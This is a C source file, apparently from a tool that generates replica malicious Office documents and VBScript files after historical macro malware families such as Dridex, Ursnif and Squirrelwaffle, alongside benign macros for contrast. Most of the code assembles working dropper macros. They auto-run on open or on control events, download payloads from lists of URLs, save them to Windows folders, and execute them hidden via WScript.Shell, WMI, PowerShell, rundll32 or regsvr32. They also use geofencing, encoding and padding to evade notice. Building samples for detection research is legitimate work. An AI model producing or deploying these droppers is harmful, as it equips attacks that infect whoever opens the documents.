/* Eras whose documents carried VBA: what the macros do, line by line, as published analyses show it. */
#include <string.h>

#include "make/replica_eras.h"
#include "make/replica_powershell.h"
#include "make/replica_vba.h"

#define PUBLIC "C:\\Users\\Public"
#define PROGRAM_DATA "C:\\ProgramData"
#define TEMP "C:\\Users\\admin\\AppData\\Local\\Temp"
#define TEXT(b) (int)(b).len, (const char *)(b).p

static const char *file_name(replica *r, replica_carrier carrier)
{
    static const char *const extensions[] = {"doc", "docm", "xls", "xlsm", "vbs"};
    return sk_text_format(r->a, "%s_%u.%s", replica_word(r), 1000 + replica_below(r, 9000), extensions[carrier]);
}

static const char *folder(replica *r)
{
    static const char *const folders[] = {PUBLIC, PROGRAM_DATA, TEMP, "C:\\Users\\admin"};
    return REPLICA_PICK(r, folders);
}

/* An expression for the path, where the environment may say its start. */
static const char *path_in_vba(replica *r)
{
    static const char *const known[][2] = {
        {TEMP, "Environ(`temp`)"}, {PUBLIC, "Environ(`public`)"}, {PROGRAM_DATA, "Environ(`ProgramData`)"}};
    for (size_t i = 0; i < SK_COUNT(known) && replica_odds(r, 60); i++)
        if (sk_starts(sk_bytes_str(r->path), sk_bytes_str(known[i][0])))
            return sk_text_format(r->a, "%s & `%s`", known[i][1], r->path + strlen(known[i][0]));
    return sk_text_format(r->a, "`%s`", r->path);
}

/* The command as expression over @path. */
static const char *command_in_vba(replica *r)
{
    const char *at = strstr(r->out->command, r->path);
    sk_bytes before = sk_bytes_of(r->out->command, (size_t)(at - r->out->command));
    const char *behind = at + strlen(r->path);
    return sk_text_format(r->a, before.len ? "`%.*s` & @path%s%s%s" : "%.*s@path%s%s%s", TEXT(before), *behind ? " & `" : "",
                          behind, *behind ? "`" : "");
}

/* Starts the expression. */
static const char *start_in_vba(replica *r, const char *command, bool script)
{
    static const char *const ways[] = {
        "CreateObject(`WScript.Shell`).Run %s, 0, False",
        "Set @shell = CreateObject(`Wscript.Shell`)\n@shell.Run %s, 0",
        "Set @process = GetObject(`winmgmts:Win32_Process`)\n@process.Create %s, Null, Null, @pid",
        "GetObject(`winmgmts:root\\cimv2:Win32_Process`).Create %s, Null, Null, @pid",
        "Set @startup = GetObject(`winmgmts:Win32_ProcessStartup`)\n@startup.ShowWindow = 0\nSet @process = "
        "GetObject(`winmgmts:Win32_Process`)\n@process.Create %s, Null, @startup, @pid",
        "CreateObject(`WScript.Shell`).Exec %s",
        "Shell %s, 0",
        "@pid = Shell(%s, vbHide)",
        "VBA.Shell# %s, 0",
        "CallByName CreateObject(`WScript.Shell`), `Run`, VbMethod, %s, 0"};
    unsigned count = script ? 6 : SK_COUNT(ways);
    return sk_text_format(r->a, ways[replica_below(r, count)], command);
}

/* --- entries --- */

struct entry {
    const char *head;
    bool event;
};

static struct entry pick_entry(replica *r, replica_carrier carrier)
{
    static const struct entry word[] = {{"Sub AutoOpen()", false},
                                        {"Sub autoopen()", false},
                                        {"Private Sub Document_Open()", true},
                                        {"Public Sub AutoClose()", false},
                                        {"Private Sub Document_Close()", true}};
    static const struct entry excel[] = {{"Sub Auto_Open()", false},
                                         {"Private Sub Workbook_Open()", true},
                                         {"Private Sub Workbook_Activate()", true},
                                         {"Private Sub Workbook_BeforeClose(Cancel As Boolean)", true},
                                         {"Sub Auto_Close()", false}};
    return carrier == REPLICA_DOC || carrier == REPLICA_DOCM ? REPLICA_PICK(r, word) : REPLICA_PICK(r, excel);
}

/* The body in a procedure some calls below the entry; then the whole document. */
static void finish_with(replica_vba *v, const char *body, struct entry entry)
{
    replica *r = v->writer.r;
    unsigned depth = replica_below(r, 4);
    const char *next = body;
    for (unsigned i = 0; i < depth; i++) {
        bool function = replica_odds(r, 40);
        replica_vba_procedure(v, sk_text_format(r->a, "%s @call%u()\n%s%sEnd %s\n", function ? "Function" : "Sub", i,
                                                v->office ? "" : "On Error Resume Next\n", next, function ? "Function" : "Sub"));
        static const char *const calls[] = {"@call%u\n", "Call @call%u\n", "@call%u\n", "Application.Run `%s`\n"};
        unsigned how = replica_below(r, SK_COUNT(calls));
        next = how == 3 ? sk_text_format(r->a, calls[3], replica_named(r, sk_text_bytes(r->a, "call%u", i)))
                        : sk_text_format(r->a, calls[how], i);
    }
    r->out->bytes = replica_vba_document(
        v, sk_text_format(r->a, "%s\n%s%%junk%%\n%sEnd Sub\n", entry.head, v->office ? "" : "On Error Resume Next\n", next),
        entry.event);
    r->out->name = file_name(r, v->store->carrier);
}

static void finish(replica_vba *v, const char *body) { finish_with(v, body, pick_entry(v->writer.r, v->store->carrier)); }

static void begin(replica *r, replica_vba *v, replica_store *s, replica_carrier carrier)
{
    replica_store_start(s, r, carrier);
    replica_vba_start(v, r, s);
}

/* --- fetching in VBA --- */

/* Lines that try each address, keep what comes and start it. */
static const char *loop_in_vba(replica_vba *v)
{
    replica *r = v->writer.r;
    static const char *const heads[] = {
        "For Each @url In Split(`%s`, \"|\")\n", "@urls = Split(`%s`, \"|\")\nFor Each @url In @urls\n",
        "@urls = Split(`%s`, \"|\")\nFor @index = LBound(@urls) To UBound(@urls)\n@url = @urls(@index)\n"};
    static const char *const clients[] = {"MSXML2.XMLHTTP", "Microsoft.XMLHTTP", "MSXML2.ServerXMLHTTP.6.0",
                                          "WinHttp.WinHttpRequest.5.1", "MSXML2.XMLHTTP.6.0"};
    sk_buf b = sk_buf_new(r->a, 1u << 16);
    const char *start = start_in_vba(r, command_in_vba(r), v->script);
    sk_buf_format(&b, "@path = %s\n",
                  v->script && strstr(path_in_vba(r), "Environ") ? sk_text_format(r->a, "`%s`", r->path)
                  : v->script                                    ? sk_text_format(r->a, "`%s`", r->path)
                                                                 : path_in_vba(r));
    sk_buf_str(&b, sk_text_format(r->a, REPLICA_PICK(r, heads), replica_joined(r, "|")));
    if (!v->script && replica_odds(r, 35)) {
        replica_vba_declare(
            v, sk_text_format(r->a,
                              "Public Declare %sFunction @fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long, "
                              "ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\n",
                              replica_odds(r, 50) ? "PtrSafe " : ""));
        sk_buf_format(&b, "If @fetch(0, @url, @path, 0, 0) = 0 Then\n%s\nExit For\nEnd If\nNext\n", start);
        return sk_arena_string(r->a, sk_buf_view(&b));
    }
    sk_buf_format(&b, "Set @http = CreateObject(`%s`)\n@http.Open `GET`, @url, False\n@http.%s\n", REPLICA_PICK(r, clients),
                  replica_odds(r, 50) ? "Send" : "send");
    if (replica_odds(r, 60))
        sk_buf_str(&b, "If @http.Status = 200 Then\n");
    else
        sk_buf_format(&b, "If LenB(@http.responseBody) > %u Then\n", replica_between(r, 1000, 30000));
    sk_buf_str(&b, "Set @stream = CreateObject(`ADODB.Stream`)\n@stream.Type = 1\n@stream.Open\n@stream.Write "
                   "@http.responseBody\n@stream.SaveToFile @path, 2\n@stream.Close\n");
    sk_buf_format(&b, "%s\nExit For\nEnd If\nNext\n", start);
    return sk_arena_string(r->a, sk_buf_view(&b));
}

/* Lines that start PowerShell. */
static const char *powershell_in_vba(replica_vba *v, unsigned depth)
{
    replica *r = v->writer.r;
    const char *command = replica_powershell_command(r, replica_powershell_script(r, depth));
    if (replica_odds(r, 50))
        return sk_text_format(r->a, "%s\n", start_in_vba(r, sk_text_format(r->a, "`%s`", command), v->script));
    return sk_text_format(r->a, "@line = `%s`\n%%junk%%\n%s\n", command, start_in_vba(r, "@line", v->script));
}

void replica_era_doc_program(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, replica_odds(r, 70) ? REPLICA_DOC : REPLICA_XLS);
    replica_addresses(r, replica_between(r, 1, 3));
    replica_keep(r, folder(r), replica_odds(r, 80) ? "exe" : "scr");
    (void)replica_command(r, REPLICA_ITSELF);
    finish(&v, loop_in_vba(&v));
}

void replica_era_doc_powershell(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, REPLICA_DOC);
    replica_addresses(r, 0);
    replica_keep(r, folder(r), "exe");
    (void)replica_command(r, REPLICA_ITSELF);
    finish(&v, powershell_in_vba(&v, replica_below(r, 3)));
}

void replica_era_doc_controls(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, REPLICA_DOC);
    s->page_only = true;
    v.stores = 80;
    replica_addresses(r, 0);
    replica_keep(r, folder(r), "exe");
    (void)replica_command(r, REPLICA_ITSELF);
    const char *command = replica_powershell_command(r, replica_powershell_script(r, replica_below(r, 2)));
    finish(&v,
           sk_text_format(r->a,
                          "@line = `%s`\nSet @startup = GetObject(`winmgmts:Win32_ProcessStartup`)\n@startup.ShowWindow = %s\n"
                          "%sGetObject(`winmgmts:Win32_Process`).Create%s @line, @nothing, @startup, @pid\n",
                          command, replica_odds(r, 50) ? "0" : "@nothing", replica_odds(r, 40) ? "Set @kept = @startup\n" : "",
                          replica_odds(r, 40) ? "#" : ""));
}

void replica_era_red_dawn(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, REPLICA_DOC);
    s->forms_only = true;
    v.light = replica_odds(r, 70);
    v.stores = 90;
    replica_addresses(r, replica_between(r, 5, 8));
    replica_keep(r, folder(r), replica_odds(r, 50) ? "dll" : "exe");
    (void)replica_command(r, strstr(r->path, ".dll") ? REPLICA_RUNDLL32 : REPLICA_ITSELF);
    const char *command = replica_powershell_command(r, replica_powershell_script(r, replica_below(r, 2)));
    finish(&v, sk_text_format(r->a,
                              "@line = `%s`\nSet @process = CreateObject(`winmgmts:root\\cimv2:Win32_Process`)\nSet @process = "
                              "GetObject(`winmgmts:root\\cimv2:Win32_Process`)\n"
                              "@process.Create @line, Null, Null, @pid\n",
                              command));
}

void replica_era_locked_project(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, replica_odds(r, 50) ? REPLICA_DOCM : REPLICA_XLSM);
    s->locked = true;
    v.light = true;
    v.stores = replica_odds(r, 50) ? 10 : 40;
    replica_addresses(r, replica_between(r, 5, 8));
    replica_keep(r, PROGRAM_DATA, "dll");
    (void)replica_command(r, replica_odds(r, 70) ? REPLICA_RUNDLL32 : REPLICA_REGSVR32);
    finish(&v, powershell_in_vba(&v, replica_below(r, 2)));
}

void replica_era_padded_doc(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, REPLICA_DOC);
    s->padding = (size_t)replica_between(r, 600, 1500) << 10;
    sk_buf_str(&s->text,
               "\nCall me Ishmael. Some years ago, never mind how long precisely, having little or no money in my purse");
    s->paragraphs++;
    replica_addresses(r, replica_between(r, 4, 8));
    replica_keep(r, folder(r), "dll");
    (void)replica_command(r, REPLICA_REGSVR32);
    finish(&v, loop_in_vba(&v));
}

/* --- scripts in VBScript --- */

static void make_vbs(replica *r, const char *extension)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, REPLICA_SCRIPT);
    replica_addresses(r, 0);
    replica_keep(r, folder(r), replica_odds(r, 60) ? "dll" : "ocx");
    (void)replica_command(r, replica_odds(r, 70) ? REPLICA_REGSVR32 : REPLICA_RUNDLL32);
    const char *body = replica_odds(r, 75) ? loop_in_vba(&v) : powershell_in_vba(&v, replica_below(r, 2));
    if (replica_odds(r, 50)) {
        replica_vba_procedure(&v, sk_text_format(r->a, "Sub @main()\nOn Error Resume Next\n%sEnd Sub\n", body));
        body = "@main\n";
    }
    r->out->bytes = replica_vba_script(&v, sk_text_format(r->a, "On Error Resume Next\n%%junk%%\n%s", body));
    r->out->name = sk_text_format(r->a, "%s.%s", replica_word(r), extension);
}

void replica_era_vbs(replica *r) { make_vbs(r, "vbs"); }

void replica_era_click_wsf(replica *r)
{
    make_vbs(r, "wsf");
    r->out->bytes = replica_script_file(r, r->out->bytes, replica_odds(r, 50) ? "VBScript" : "vbs");
    r->out->name = "click.wsf";
}

/* --- neighbours --- */

/* A script is written into a file and started, which starts PowerShell. */
void replica_era_squirrelwaffle_doc(replica *r)
{
    replica_vba inside, v;
    replica_store *none = SK_NEW(r->a, replica_store), *s = SK_NEW(r->a, replica_store);
    begin(r, &inside, none, REPLICA_SCRIPT);
    replica_addresses(r, replica_between(r, 2, 5));
    replica_keep(r, PROGRAM_DATA, "dll");
    (void)replica_command(r, REPLICA_RUNDLL32);
    inside.light = true;
    bool stranger = r->stranger && replica_odds(r, 50); /* inside, or around it */
    r->stranger = stranger;
    sk_bytes script = replica_vba_script(&inside, powershell_in_vba(&inside, 0));
    if (stranger) r->stranger = false;
    begin(r, &v, s, replica_odds(r, 70) ? REPLICA_DOC : REPLICA_XLS);
    sk_buf b = sk_buf_new(r->a, 1u << 18);
    const char *name = sk_text_format(r->a, "%s\\nosuch%s.vbs", replica_odds(r, 50) ? PROGRAM_DATA : PUBLIC, replica_word(r));
    bool object = replica_odds(r, 50);
    sk_buf_format(&b,
                  object
                      ? "Set @files = CreateObject(`Scripting.FileSystemObject`)\nSet @out = @files.CreateTextFile(`%s`, True)\n"
                      : "@number = FreeFile\nOpen `%s` For Output As #@number\n",
                  name);
    for (sk_bytes line; sk_next_line(&script, &line, NULL);) {
        if (sk_find_byte(line, 0, '`') != SK_NPOS) continue;
        if (line.len) sk_buf_format(&b, object ? "@out.WriteLine `%.*s`\n" : "Print #@number, `%.*s`\n", TEXT(line));
    }
    sk_buf_str(&b, object ? "@out.Close\n" : "Close #@number\n");
    sk_buf_format(
        &b, "%s\n",
        start_in_vba(r, sk_text_format(r->a, "`%s %s`", replica_odds(r, 50) ? "cmd /k cscript.exe" : "wscript", name), false));
    finish(&v, sk_arena_string(r->a, sk_buf_view(&b)));
}

/* Only where Excel's country is Japan or Italy: told by a check, or as key of the text. */
void replica_era_ursnif(replica *r)
{
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, replica_odds(r, 70) ? REPLICA_XLS : REPLICA_XLSM);
    replica_addresses(r, replica_between(r, 1, 3));
    replica_keep(r, folder(r), "exe");
    (void)replica_command(r, REPLICA_ITSELF);
    unsigned country = replica_odds(r, 70) ? 81 : 39, key = replica_between(r, 1, 30);
    const char *asked = replica_odds(r, 50) ? "xlCountrySetting" : replica_odds(r, 50) ? "xlCountryCode" : "1";
    const char *command = replica_powershell_command(r, replica_powershell_script(r, replica_below(r, 2)));
    if (replica_odds(r, 40)) {
        replica_vba_procedure(
            &v,
            sk_text_format(
                r->a, "Sub @gate()\nOn Error Resume Next\nIf Application.International(%s) <> %u Then Exit Sub\n%s\nEnd Sub\n",
                asked, country, start_in_vba(r, sk_text_format(r->a, "`%s`", command), false)));
        finish(&v, "@gate\n");
        return;
    }
    replica_vba_procedure(&v, "Function @turn(@s, @k)\nFor @i = 1 To Len(@s)\n@o = @o & Chr((Asc(Mid(@s, @i, 1)) - 32 + 95 - @k) "
                              "Mod 95 + 32)\nNext\n@turn = @o\nEnd Function\n");
    r->spare = replica_caesar(r, sk_bytes_str(command), key);
    finish(&v, sk_text_format(r->a, "@key = Application.International(%s) - %u\n@line = @turn(`\x02`, @key)\n%s\n", asked,
                              country - key, start_in_vba(r, "@line", false)));
}

void replica_era_dridex_event(replica *r)
{
    static const char *const triggers[][2] = {
        {"InkPicture1, 0, 0, INKEDLib, InkPicture",
         "Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As MSINKAUTLib.IInkRectangle)"},
        {"InkPicture1, 0, 0, INKEDLib, InkPicture", "Private Sub InkPicture1_Resize(ByVal a As Long, ByVal b As Long)"},
        {"Frame1, 0, 0, MSForms, Frame", "Private Sub Frame1_Layout()"},
        {"MultiPage1, 0, 0, MSForms, MultiPage", "Private Sub MultiPage1_Layout(ByVal Index As Long)"},
        {"ImageCombo21, 0, 0, MSComctlLib, ImageCombo", "Private Sub ImageCombo21_Change()"},
        {"TextBox1, 0, 0, MSForms, TextBox", "Private Sub TextBox1_GotFocus()"}};
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin(r, &v, s, replica_odds(r, 60) ? REPLICA_DOC : REPLICA_XLSM);
    unsigned which = replica_below(r, SK_COUNT(triggers));
    s->trigger = triggers[which][0];
    s->locked = replica_odds(r, 60);
    replica_addresses(r, 0);
    replica_keep(r, folder(r), "dll");
    (void)replica_command(r, replica_odds(r, 50) ? REPLICA_RUNDLL32 : REPLICA_REGSVR32);
    finish_with(&v, replica_odds(r, 60) ? loop_in_vba(&v) : powershell_in_vba(&v, 1), (struct entry){triggers[which][1], true});
}

/* --- harmless ones: the same tricks without acting --- */

static void begin_office(replica *r, replica_vba *v, replica_store *s, replica_carrier carrier)
{
    begin(r, v, s, carrier);
    v->office = true;
    v->light = replica_odds(r, 70);
    v->writer.junk_odds = 10;
}

void replica_era_office_word(replica *r)
{
    static const char *const bodies[] = {
        "Selection.Find.Text = `<<NAME>>`\nSelection.Find.Replacement.Text = `Sato Hanako`\nSelection.Find.Execute Replace:=2\n",
        "ActiveDocument.Bookmarks(`Total`).Range.Text = `Total: 38,000`\nActiveDocument.Fields.Update\n",
        "With ActiveDocument.MailMerge\n.Destination = 0\n.Execute\nEnd With\nMsgBox `The letters are ready.`\n",
        "For Each @table In ActiveDocument.Tables\n@table.Borders.Enable = True\n@table.Rows(1).Range.Bold = True\nNext\n",
        "If Date > DateSerial(2019, 12, 31) Then\nMsgBox `This form is out of date. Ask for a new one.`\nActiveDocument.Close "
        "False\nEnd If\n",
        "@user = Application.UserName\nActiveDocument.Content.InsertAfter `Written by ` & @user & Format(Now, `yyyy-mm-dd`)\n",
        "@parts = Split(`Tokyo;Osaka;Nagoya;Sapporo`, \";\")\nFor @i = 0 To UBound(@parts)\n@list = @list & "
        "StrReverse(StrReverse(@parts(@i))) & vbCrLf\nNext\nSelection.TypeText @list\n"};
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin_office(r, &v, s, replica_odds(r, 50) ? REPLICA_DOC : REPLICA_DOCM);
    finish(&v, sk_text_format(r->a, "%s%s", REPLICA_PICK(r, bodies), REPLICA_PICK(r, bodies)));
}

void replica_era_office_excel(replica *r)
{
    static const char *const bodies[] = {
        "Sheets(1).Range(`A1`).Value = `Estimate ` & Format(Date, `yyyy/mm/dd`)\nSheets(1).Range(`B2`).NumberFormat = `#,##0`\n",
        "For @i = 2 To 40\nIf Cells(@i, 1).Value = `` Then Exit For\nCells(@i, 4).Value = Cells(@i, 2).Value * Cells(@i, "
        "3).Value\nNext\n",
        "Sheets(1).Copy After:=Sheets(Sheets.Count)\nActiveSheet.Name = `Copy ` & Sheets.Count\n",
        "If Now > DateSerial(2018, 4, 1) Then\nMsgBox `This price list has expired.`\nThisWorkbook.Close SaveChanges:=False\nEnd "
        "If\n",
        "@name = Replace(`order_list_2021`, \"_\", \" \")\nMsgBox UCase(Left(@name, 1)) & Mid(@name, 2)\n",
        "Application.ScreenUpdating = False\n@v = Range(`A1:C10`).Value\nFor @i = 1 To 10\n@sum = @sum + Val(@v(@i, "
        "3))\nNext\nRange(`D1`) = @sum\nApplication.ScreenUpdating = True\n",
        "ThisWorkbook.SaveCopyAs ThisWorkbook.Path & `\\backup_` & Format(Now, `yyyymmdd`) & `.xls`\n",
        "Set @d = CreateObject(\"Scripting.Dictionary\")\nFor Each @c In Range(`A1:A20`)\n@d(CStr(@c.Value)) = "
        "@d(CStr(@c.Value)) + 1\nNext\nMsgBox Join(@d.Keys, `, `)\n"};
    replica_vba v;
    replica_store *s = SK_NEW(r->a, replica_store);
    begin_office(r, &v, s, replica_odds(r, 50) ? REPLICA_XLS : REPLICA_XLSM);
    finish(&v, sk_text_format(r->a, "%s%s", REPLICA_PICK(r, bodies), REPLICA_PICK(r, bodies)));
}
